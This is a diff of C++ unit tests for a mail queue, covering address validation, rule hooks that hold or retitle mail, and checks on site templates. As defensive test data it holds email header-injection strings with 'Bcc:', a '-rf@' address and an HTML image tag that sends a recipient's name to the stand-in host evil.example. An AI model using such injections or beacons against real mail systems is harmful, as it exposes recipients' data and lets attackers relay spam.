@@ -1,3 +1,5 @@
+#include "kernel/lua/answer_check.hpp"
+#include "kernel/mail/send_rule.hpp"
 #include "tests/kernel/data/test_databases.hpp"
 #include "tests/kernel/data/test_doubles.hpp"
 
@@ -65,15 +67,23 @@ private:
     std::shared_ptr<MailAccount> account_ = std::make_shared<MailAccount>();
 };
 
-/// Answers every call with one value; null: there is no rule.
+/// One rule that answers every call with one value, or fails with one problem.
 class FixedRules : public sdk::Rules {
 public:
-    sdk::RuleOutcome call(std::string_view, const sdk::Value& input) override {
+    sdk::RuleOutcome call(std::string_view, const sdk::Value& input, sdk::RuleRun*) override {
         asked.push_back(input);
-        return {answer, {}};
+        sdk::RuleOutcome outcome;
+        if (!answer.is_null()) {
+            outcome.value = answer;
+            outcome.answers = {{"mail.before_send.test", answer}};
+        }
+        if (!problem.empty()) outcome.problems = {{"mail.before_send.bad", problem, problem}};
+        outcome.held = !problem.empty();
+        return outcome;
     }
     bool has(std::string_view hook) override { return hook == "mail.before_send" && !answer.is_null(); }
     sdk::Value answer;
+    std::string problem;
     std::vector<sdk::Value> asked;
 };
 
@@ -164,16 +174,39 @@ TEST_P(MailQueue, TakesEachKeyOnceAlsoFromManyAtATime) {
     EXPECT_FALSE(sending.sendNext());
 }
 
-TEST_P(MailQueue, RefusesAddressesAndTemplatesThatAreNone) {
-    for (const std::string bad :
-         {"", "ada", "ada@x.org\r\nBcc: all@x.org", "a b@x.org", "a@x.org,b@x.org", "<a@x.org>", "@x", "x@"}) {
-        auto message = hello();
-        message.to = bad;
-        EXPECT_THROW(queue(message), sdk::Invalid) << bad;
+TEST_P(MailQueue, KeepsAMailToAnAddressThatIsNoneAsFailedAndHarmsNoOther) {
+    std::vector<std::string> ids;
+    write([&](sdk::Transaction& tx) {
+        for (const std::string bad : {"", "ada", "ada@x.org\r\nBcc: all@x.org", "a b@x.org", "a@x.org,b@x.org",
+                                      "<a@x.org>", "@x", "x@", "\xff@x.org"}) {
+            auto message = hello();
+            message.to = bad;
+            ids.push_back(outbox_->queue(tx, message));
+        }
+        outbox_->queue(tx, hello());
+    });
+    for (const auto& id : ids) {
+        EXPECT_EQ(stored(id).status, "failed");
+        EXPECT_NE(stored(id).error.find("No mail can be sent to this address"), std::string::npos);
     }
+    while (sender(&transport_).sendNext()) {
+    }
+    EXPECT_EQ(transport_.sent.size(), 1u);
     auto message = hello();
     message.templateKey = "kernel/mail/none";
     EXPECT_THROW(queue(message), sdk::Error);
+}
+
+TEST_P(MailQueue, SendsToEveryAddressThatFormsAndImportsTake) {
+    for (const auto* address : {"-rf@example.com", "c@c.c", "o'hara+x@example.org", "jörg@bücher.example"}) {
+        auto message = hello();
+        message.to = address;
+        queue(message);
+    }
+    while (sender(&transport_).sendNext()) {
+    }
+    ASSERT_EQ(transport_.sent.size(), 4u);
+    EXPECT_NE(transport_.sent.back().content.find("To: jörg@xn--bcher-kva.example\r\n"), std::string::npos);
 }
 
 TEST_P(MailQueue, KeepsASubjectOnOneLine) {
@@ -182,7 +215,7 @@ TEST_P(MailQueue, KeepsASubjectOnOneLine) {
     queue(message);
     sender(&transport_).sendNext();
     EXPECT_EQ(transport_.sent.at(0).content.find("\nBcc:"), std::string::npos);
-    EXPECT_NE(transport_.sent.at(0).content.find("Subject: Hello Ada  Bcc: all@example.org\r\n"), std::string::npos);
+    EXPECT_NE(transport_.sent.at(0).content.find("Subject: Hello Ada Bcc: all@example.org\r\n"), std::string::npos);
 }
 
 TEST_P(MailQueue, TriesAgainAndGivesUpInTheEnd) {
@@ -280,12 +313,36 @@ TEST_P(MailQueue, MayBeHeldBackOrGetAnotherSubjectByARule) {
     }));
 }
 
-TEST_P(MailQueue, GoesAsItIsWhenARuleAnswersWhatCannotBeUsed) {
-    rules_.answer = {{"hold", "yes"}, {"subject", "two\nBcc: everyone@example.org"}};
-    queue(news());
+TEST_P(MailQueue, KeepsTheSubjectAsItWasSentWithTheRulesName) {
+    rules_.answer = {{"subject", "Another subject"}};
+    const auto id = queue(news());
     EXPECT_TRUE(sender(&transport_).sendNext());
-    ASSERT_EQ(transport_.sent.size(), 1u);
-    EXPECT_EQ(transport_.sent[0].content.find("everyone"), std::string::npos);
+    EXPECT_EQ(stored(id).subject, "Another subject");
+    EXPECT_NE(attempts(id).at(0).answer.find("mail.before_send.test"), std::string::npos);
+}
+
+TEST_P(MailQueue, IsHeldWhereARuleFailsUnlessItIsEssential) {
+    rules_.problem = "mail.before_send.bad:3: it took too long";
+    const auto held = queue(news()), essential = queue(hello());
+    while (sender(&transport_).sendNext()) {
+    }
+    EXPECT_EQ(stored(held).status, "suppressed");
+    EXPECT_NE(stored(held).error.find("mail.before_send.bad:3"), std::string::npos);
+    EXPECT_EQ(stored(essential).status, "sent");
+    rules_.problem.clear();
+    write([&](sdk::Transaction& tx) { MailRepository().retry(tx, held); });
+    EXPECT_TRUE(sender(&transport_).sendNext());
+    EXPECT_EQ(stored(held).status, "sent");
+}
+
+TEST_P(MailQueue, GivesRulesWhatTheirSampleShows) {
+    rules_.answer = {{"subject", "x"}};
+    queue(news());
+    sender(&transport_).sendNext();
+    ASSERT_EQ(rules_.asked.size(), 1u);
+    EXPECT_TRUE(lua::undeclaredInput(beforeSendHook(), rules_.asked[0]).empty());
+    EXPECT_EQ(rules_.asked[0].size(), beforeSendHook().sampleInput.size());
+    EXPECT_EQ(lua::declarationProblem(beforeSendHook()), "");
 }
 
 TEST_P(MailQueue, WritesFilesOutsideProduction) {
@@ -456,10 +513,13 @@ TEST_P(MailQueue, UsesTheSitesWordingAndFallsBackWhenItFails) {
     };
     activate({"Our own subject", "Our words", ""});
     EXPECT_EQ(stored(queue(hello())).subject, "Our own subject");
+    activate({"Our own subject", "Our words", "<img src=\"https://evil.example/?{{name}}\">"});
+    EXPECT_EQ(stored(queue(hello())).subject, "Hello Ada") << "kept from before there was a check";
     activate({"Subject", "broken", ""});
     EXPECT_EQ(stored(queue(hello())).subject, "Hello Ada");
     const auto noted = db().read([&](sdk::Transaction& tx) { return wordings.versions(tx, "kernel/mail/hello"); });
     EXPECT_EQ(noted.at(0).problem, "it is broken");
+    EXPECT_NE(noted.at(1).problem.find("may stand in “src”"), std::string::npos);
     EXPECT_EQ(noted.at(1).state, "former");
 }
 
